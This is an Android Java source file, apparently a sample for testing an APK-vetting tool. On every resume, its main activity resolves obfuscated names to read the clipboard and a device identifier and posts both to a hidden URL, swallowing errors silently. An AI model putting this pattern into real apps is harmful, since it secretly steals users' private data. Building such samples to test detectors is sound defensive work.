package org.apkvet.samples.hidden.tablenative;

import android.app.Activity;
import android.provider.Settings;
import java.net.URL;
import java.net.URLConnection;

/** Reads the clipboard and an identifier by names that are hidden, and sends them to a host that is hidden. */
public class MainActivity extends Activity {
    @Override
    protected void onResume() {
        super.onResume();
        try {
            Object service = getSystemService(D.d(0));
            Object clip = Class.forName(D.d(1)).getMethod(D.d(2)).invoke(service);
            String id = Settings.Secure.getString(getContentResolver(), D.d(3));
            URLConnection connection = new URL(D.d(4)).openConnection();
            connection.getOutputStream().write((id + clip).getBytes());
        } catch (Exception e) {
            finish();
        }
    }
}
